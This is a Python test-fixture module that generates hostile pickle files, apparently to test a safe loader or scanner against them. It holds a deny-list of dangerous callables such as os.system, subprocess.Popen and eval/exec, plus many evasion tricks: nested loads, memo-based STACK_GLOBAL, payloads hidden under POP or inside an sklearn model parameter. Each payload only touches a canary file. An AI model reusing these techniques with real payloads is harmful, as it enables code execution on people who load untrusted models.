"""The hostile files: pickles that would run something, lie about their own length, or claim the machine.

`corpus(canary)` gives name -> (bytes, how a victim would load it). Loaded by "pickle", "joblib" or "torch", each of
those creates the file `canary`, which the tests prove; "none" marks files whose harm is another (time, memory) or that
only a careless reader would mistake. The payload is `touch`; nothing here is dangerous to have on a disk.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

from hostile_bytes import confused, greedy, wrapped
from hostile_parts import P2, P3, P4, Case, call, evil, name, short, text

# Callables that run, open or import what they are told: what they are given, and whether the canary is made.
LIVE = """
os.system touch, posix.system touch, subprocess.getoutput touch, subprocess.call argv,
subprocess.Popen argv, subprocess.check_output argv, pty.spawn argv, builtins.eval expression, builtins.exec python,
builtins.open file, io.open file, timeit.timeit python, cProfile.run python, os.mkdir path, os.mkfifo path,
shutil.copy copy, sqlite3.connect path, zipfile.ZipFile file, logging.FileHandler path, tarfile.open file
"""
SILENT = """
trace.Trace path, os.popen touch, code.interact path, pathlib.Path.touch path, tempfile.mktemp path,
dbm.dumb.open path,
shelve.open path, bdb.Bdb path, numpy.testing.rundocs path, numpy.load path, numpy.memmap path,
numpy.f2py.crackfortran.myeval python, numpy.core.multiarray.fromfile path, numpy._core._ufunc_reconstruct path,
pandas.eval python, pandas.read_pickle path, torch.hub.load path, torch.load path, joblib.load path,
sklearn.datasets.load_files path, pip.main argv, importlib.import_module path, pydoc.locate path, ctypes.CDLL path,
marshal.loads path, types.CodeType path, types.FunctionType path, operator.attrgetter path,
operator.methodcaller path, webbrowser.open path, socket.socket path, builtins.__import__ path,
builtins.globals path, builtins.setattr path, builtins.getattr path, builtins.compile python, builtins.type path,
sys.exit path, os._exit path, runpy.run_path path, asyncio.run path, multiprocessing.Process path, gc.get_objects path,
inspect.getattr_static path, weakref.ref path, atexit.register path, signal.signal path, threading.Thread path
"""


def _callables(canary: str) -> Iterator[tuple[str, Case]]:
    """Functions of the standard library and of frameworks."""
    python = f"open({canary!r}, 'w').close()"
    given = {
        "touch": text(f"touch {canary}"),
        "argv": b"](" + text("touch") + text(canary) + b"e",
        "expression": text(f"[{python}]"),
        "python": text(python),
        "file": text(canary) + text("w"),
        "path": text(canary),
        "copy": text("/etc/hostname") + text(canary),
    }
    for table, how in ((LIVE, "pickle"), (SILENT, "none")):
        for entry in table.split(","):
            dotted, kind = entry.split()
            yield f"call {dotted}", (P3 + call(*dotted.rsplit(".", 1), given[kind]) + b".", how)


def _indirect(canary: str) -> Iterator[tuple[str, Case]]:
    """os.system reached by another road than GLOBAL and REDUCE."""
    command, system = text(f"touch {canary}"), name("os", "system")
    yield "partial", (P3 + call("functools", "partial", system, command) + b")R.", "pickle")
    yield "partial of memmap", (P3 + call("functools", "partial", name("numpy", "memmap"), text(canary)) + b".", "none")
    maker = name("numpy", "memmap")
    yield (
        "generator of memmap",
        (
            P3 + call("numpy.random._pickle", "__randomstate_ctor", text(canary), maker) + b".",
            "none",
        ),
    )
    yield "memmap itself", (P3 + maker + text(canary) + b"\x85\x81.", "none")
    yield "reduce", (P3 + call("functools", "reduce", system, b"](" + command + b"K\x00e") + b".", "none")
    yield (
        "map",
        (P3 + name("builtins", "list") + call("builtins", "map", system, b"](" + command + b"e") + b"\x85R.", "pickle"),
    )
    yield (
        "nested loads",
        (
            P3
            + call("pickle", "loads", b"B" + struct.pack("<I", len(P2 + evil(canary)) + 1) + P2 + evil(canary) + b".")
            + b".",
            "pickle",
        ),
    )
    yield "INST", (f"(S'touch {canary}'\nios\nsystem\n.".encode(), "pickle")
    yield "OBJ", (P3 + b"(" + system + command + b"o.", "pickle")
    yield "protocol 0", (f"cos\nsystem\n(S'touch {canary}'\ntR.".encode(), "pickle")
    yield (
        "Python 2 names",
        (P2 + call("__builtin__", "eval", text(f"[open({canary!r}, 'w').close()]")) + b".", "pickle"),
    )
    yield "Python 2 module", (P2 + call("commands", "getoutput", command) + b".", "pickle")
    yield "STACK_GLOBAL", (P4 + short("os") + short("system") + b"\x93" + command + b"\x85R.", "pickle")
    yield (
        "STACK_GLOBAL from the memo",
        (P4 + short("system") + b"\x94" + short("os") + b"\x94h\x01h\x00\x93" + command + b"\x85R.", "pickle"),
    )
    yield "dotted name", (P4 + short("os") + short("path.os.system") + b"\x93" + command + b"\x85R.", "pickle")
    yield (
        "dotted through a known class",
        (P4 + short("sklearn.base") + short("warnings.sys.modules") + b"\x93.", "none"),
    )
    yield (
        "computed name",
        (P4 + short("os") + call("_codecs", "encode", text("system"), text("latin1")) + b"\x93.", "none"),
    )
    yield "hidden by POP", (P3 + evil(canary) + b"0" + b"}.", "pickle")
    yield "hidden under POP_MARK", (P3 + b"(" + evil(canary) + b"1}.", "pickle")
    yield (
        "inside a good model's parameter",
        (
            P3
            + name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81}"
            + text("func")
            + evil(canary)
            + b"sb.",
            "pickle",
        ),
    )
    yield (
        "function as a parameter",
        (
            P3
            + name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81}"
            + text("func")
            + system
            + b"sb.",
            "none",
        ),
    )
    yield "default factory", (P3 + call("collections", "defaultdict", system) + b".", "none")
    yield "EXT1", (P3 + b"\x82\x01.", "none")
    yield "EXT2", (P3 + b"\x83\x01\x01.", "none")
    yield "EXT4", (P3 + b"\x84\x01\x01\x01\x01.", "none")
    yield "persistent id", (P3 + text("id") + b"Q.", "none")
    yield "persistent id as text", (b"Pid\n.", "none")
    yield "out-of-band buffer", (b"\x80\x05\x97.", "none")
    yield (
        "BUILD on a class",
        (
            P3 + name("sklearn.linear_model._base", "LinearRegression") + b"}" + text("predict") + system + b"sb.",
            "none",
        ),
    )
    yield (
        "BUILD with slots on a class",
        (
            P3 + name("sklearn.linear_model._base", "LinearRegression") + b"N}" + text("predict") + system + b"s\x86b.",
            "none",
        ),
    )
    yield "BUILD on a function", (P3 + name("numpy", "mean") + b"}b.", "none")
    yield (
        "REDUCE of a class with arguments",
        (P3 + call("sklearn.linear_model._base", "LinearRegression", b"\x88") + b".", "none"),
    )
    yield (
        "REDUCE of what REDUCE returned",
        (P3 + call("functools", "partial", name("builtins", "len")) + b")R.", "none"),
    )
    yield "DUP", (P3 + b"}2.", "none")
    yield "data after the end", (P3 + b"}." + P3 + evil(canary) + b".", "none")
    yield "protocol 6", (b"\x80\x06}.", "none")
    yield "claims an enormous buffer", (P3 + call("builtins", "bytearray", b"J\xff\xff\xff\x7f") + b".", "none")


def corpus(canary: str) -> dict[str, Case]:
    """All cases by name."""
    found: dict[str, Case] = {}
    for group in (_callables(canary), _indirect(canary), confused(canary), wrapped(canary), greedy()):
        found.update(group)
    return found
